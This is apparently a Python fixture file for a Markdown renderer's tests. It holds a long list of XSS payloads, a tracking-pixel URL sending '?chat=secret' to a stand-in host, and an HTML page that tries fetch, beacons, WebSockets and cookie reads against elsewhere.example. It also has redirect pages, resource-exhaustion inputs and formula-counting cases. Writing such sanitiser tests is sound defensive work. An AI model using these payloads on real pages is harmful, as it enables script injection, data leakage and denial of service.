"""Markdown for test_markdown.py: attacks, prices and formulas, and a document with everything in it."""

from __future__ import annotations

ELSEWHERE = "https://elsewhere.example"

ATTACKS = [
    "<script>fall()</script>",
    "<img src=x onerror=fall()>",
    "<svg onload=fall()><script>fall()</script></svg>",
    "<svg><style><img src=x onerror=fall()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--&gt;&lt;img src=1 onerror=fall()&gt;\">",
    "<iframe srcdoc='<script>parent.fall()</script>'></iframe>",
    f"<iframe src='{ELSEWHERE}/'></iframe>",
    f"<object data='{ELSEWHERE}/x.swf'></object><embed src='{ELSEWHERE}/x'>",
    f"<link rel=stylesheet href='{ELSEWHERE}/x.css'>"
    f"<style>@import '{ELSEWHERE}/y.css'; body {{ display: none }}</style>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'><base href='{ELSEWHERE}/'>",
    f"<form action='{ELSEWHERE}/'><input name=q autofocus onfocus=fall()><button>go</button></form>",
    "<details open ontoggle=fall()><summary>x</summary></details>",
    "<body onload=fall()><video><source onerror=fall()></video><audio src=x onerror=fall()>",
    f"<video poster='{ELSEWHERE}/p.png' src='{ELSEWHERE}/v.mp4' autoplay></video>",
    "<a href='javascript:fall()'>x</a>",
    "<template><script>fall()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=fall()>'></noscript>",
    "<!--<img src='--><img src=x onerror=fall()>'>",
    "<a id=location><a id=markdown name=body><form id=document><input name=cookie></form>",
    "[x](javascript:fall())",
    "[x](JaVaScRiPt:fall())",
    "[x](javascript&colon;fall())",
    "[x](&#106;avascript:fall())",
    "[x](java\tscript:fall())",
    "[x](\x01javascript:fall())",
    "[x](vbscript:fall())",
    "[x](data:text/html;base64,PHNjcmlwdD5mYWxsKCk8L3NjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg onload=fall()>)",
    "[x](blob:https://elsewhere.example/1) [y](file:///etc/passwd) [z](ftp://elsewhere.example/)",
    "[x](https://example.org/\"onmouseover=\"fall())",
    "[x](<https://example.org/\" onmouseover=\"fall()>)",
    "[x][1]\n\n[1]: javascript:fall()",
    "<javascript:fall()> <https://elsewhere.example/\"><img/src=x/onerror=fall()>",
    f"![x]({ELSEWHERE}/pixel.png?chat=secret)",
    f"![x](//{ELSEWHERE.removeprefix('https://')}/pixel.png)",
    f"![x](/\\{ELSEWHERE.removeprefix('https://')}/pixel.png)",
    f"![x][p]\n\n[p]: {ELSEWHERE}/pixel.png \"title\"",
    f"[![x]({ELSEWHERE}/badge.svg)]({ELSEWHERE}/)",
    "![x](data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='fall()'/>)",
    "![x\" onerror=\"fall()](data:image/png;base64,AAAA)",
    "```html\"><img src=x onerror=fall()>\n<script>fall()</script>\n```",
    "```javascript onclick=fall()\n</code></pre><script>fall()</script>\n```",
    "- ```xml\n  <img src=x onerror=fall()></code></pre><img src=x onerror=fall()>\n  ```",
    "`<img src=x onerror=fall()>` and ``</code><script>fall()</script>``",
    "| <img src=x onerror=fall()> | b |\n|---|---|\n| [x](javascript:fall()) | <script>fall()</script> |",
    "- [x] <img src=x onerror=fall()>\n- [ ] <input onfocus=fall() autofocus>",
    "x[^1]\n\n[^1]: <img src=x onerror=fall()> [y](javascript:fall())",
    "x[^\"onclick=fall()] and [^__proto__]\n\n[^__proto__]: y",
    "$\\href{javascript:fall()}{x}$ $\\url{javascript:fall()}$",
    f"$\\includegraphics[height=1em]{{{ELSEWHERE}/x.png}}$",
    "$\\htmlData{onclick=fall()}{x} \\htmlStyle{position:fixed;inset:0}{x}$",
    "$\\htmlId{location}{x} \\htmlClass{nk-scrim}{x}$",
    f"$$\\color{{red;background:url({ELSEWHERE}/x.png)}} x$$",
    "$\\text{<img src=x onerror=fall()>}$ and $<img/src=x/onerror=fall()>$",
    "\\(\\unicode{x} <script>fall()</script>\\)",
    "$\\rule{1000000em}{1000000em}$ $\\hspace{9999999em}x$ $\\kern-99999em x$",
    "&lt;img src=x onerror=fall()&gt; &#60;script&#62;fall()&#60;/script&#62;",
    "# <img src=x onerror=fall()>\n\n> <script>fall()</script>\n\n1. <svg/onload=fall()>",
]

# Tries all that a page can do to reach another one, and says what came of it; and what leaves by itself.
NETWORK_HTML = f"""\
<!doctype html><html><head><link rel=stylesheet href={ELSEWHERE}/a.css><link rel=dns-prefetch href={ELSEWHERE}>
<base href={ELSEWHERE}/>
<style>@import "{ELSEWHERE}/b.css"; h1 {{ color: rgb(1, 2, 3); background: url({ELSEWHERE}/c.png) }}</style>
<script src={ELSEWHERE}/d.js></script></head><body><h1>Shown</h1><img src={ELSEWHERE}/e.png onerror="parent.fall()">
<iframe src={ELSEWHERE}/f></iframe><form action={ELSEWHERE}/g><button>send</button></form>
<script>
  document.querySelector("h1").textContent = "Ran";
  for (const reach of [() => parent.fall(), () => top.fall(), () => top.document.cookie, () => localStorage.length,
                       () => new Image().src = "{ELSEWHERE}/h.png", () => new WebSocket("wss://elsewhere.example/"),
                       () => navigator.sendBeacon("{ELSEWHERE}/i"), () => open("{ELSEWHERE}/j"),
                       () => import("{ELSEWHERE}/k.js"), () => document.forms[0].submit(),
                       () => new Worker("{ELSEWHERE}/l.js"), () => top.location = "{ELSEWHERE}/m"])
    try {{ reach() }} catch {{}}
  fetch("{ELSEWHERE}/n").catch(() => fetch("/healthz")).catch(() => document.querySelector("h1").append(", refused"));
</script></body></html>
"""
LEAVING_HTML = f"""\
<meta http-equiv=refresh content="0;url={ELSEWHERE}/refresh"><script>location = "{ELSEWHERE}/away"</script>
"""

# Would take the page minutes, or gigabytes, where nothing bounded them.
HEAVY = [
    "$\\def\\a{" + "x" * 1500 + "}" + "\\a" * 1000 + "$",
    "$\\def\\a{\\a\\a}\\a$",
    "$" + "{" * 1900 + "}" * 1900 + "$",
    "$" + "\\frac{1}{" * 400 + "x" + "}" * 400 + "$",
    "[" * 5000 + "](" * 5000,
    "> " * 2000 + "x",
    "$" * 5001,
    "$a " * 3000,
    "\\(" * 3000,
    "*_" * 3000 + "x",
    "`" + "`a" * 3000,
    "[^1]: x\n" * 1000,
    "| a " * 500 + "|\n" + "|-" * 500 + "|\n" + "|\n" * 500,
]

# Text, and how many formulas are in it.
FORMULAS = [
    ("$x^2$ and $y$", 2),
    ("It costs $5 and $10 a day.", 0),
    ("between $5 and 10$ or $1,000.50", 0),
    ("US$5, $20,000 vs. $30,000/yr, then $a$.", 1),
    ("**$5**-**$10** and ($7)", 0),
    ("$HOME/bin:$PATH and $PATH", 0),
    ("pay \\$5 or \\$6", 0),
    ("`$x$` and ``\\(y\\)``", 0),
    ("```tex\n$x$ \\[y\\] $$z$$\n```", 0),
    ("    $x$ in indented code", 0),
    ("$$x$$ in a line and $$y$$", 2),
    ("Words:\n$$\nx\n= y\n$$\nmore", 1),
    ("\\(a\\), \\[b\\]", 2),
    ("\\[\n\\begin{aligned} a &= b \\\\ c &= d \\end{aligned}\n\\]", 1),
    ("1. first\n   $$\n   x\n   $$\n2. second $y$", 2),
    ("> $$x$$", 1),
    ("| $a$ | \\(b\\) |\n|---|---|\n| $c$ | $5 |", 3),
    ("as said in \\[1\\] and \\[2, 3\\]", 0),
    ("a \\\\(b\\\\) c", 0),
    ("$ x $ and $x $ and $ x$", 0),
    ("$$ that nobody closes, and $5", 0),
    ("\\( that nobody closes", 0),
    ("$x$5 and 5$x$", 0),
    ("$\\text{two words here}$", 1),
    ("$f(x)$-value, ($x$), \"$y$\"", 3),
]

# What the text refers to. Where it comes first, nothing has to be shown otherwise later on.
DEFINITIONS = """\
[^1]: The first, with **bold**

    and a second paragraph
[^two]: The second.

[ref]: https://example.org/ref
[later]: https://example.org/later 'a title'

"""

BODY = """\
# A heading with `code`

Words with **bold**, *italics*, ~~struck~~, `code`, $x^2$ and a note[^1], at https://example.org/a_b and
[a link](https://example.org/ "title"), [by reference][ref] and [another one][later].
- a list right below
- with **bold** and `code`
  1. nested
  2. twice

  and a paragraph
- [x] done
- [ ] not done, with \\(a + b\\)

| Left | Right | Middle |
|:-----|------:|:------:|
| a | 1 | `x` |
| **b** | 22 | $y$ |
| c | 333 | a note[^two] |

| Only | a head |
|---|---|

> A quote
> > in a quote
>
> ```js
> const a = "**not bold**";
> ```

Setext
======

$$
\\frac{a}{b} = c
$$

Text \\[ d = e \\] text.

```python title=app.py
def f(**kwargs):
    \"\"\"Words.

    - no list
    | no | table |
    \"\"\"
    return 2 ** 3  # $x$
```

1. One
   ```html
   <h1>Hello</h1>
   ```
2. Two

---

![elsewhere](https://pictures.example/a.png) and ![here](data:image/png;base64,iVBORw0KGgo=)

    indented code

$5 and $10, 3 * 4 * 5, snake_case_name, a\\*b, 2 < 3 & 4 > 3, <b>no tag</b>

````md
```
inner
```
````

The end.
"""

RICH = BODY + DEFINITIONS + "*unclosed **marks and `ticks\n"
STEADY = DEFINITIONS + BODY
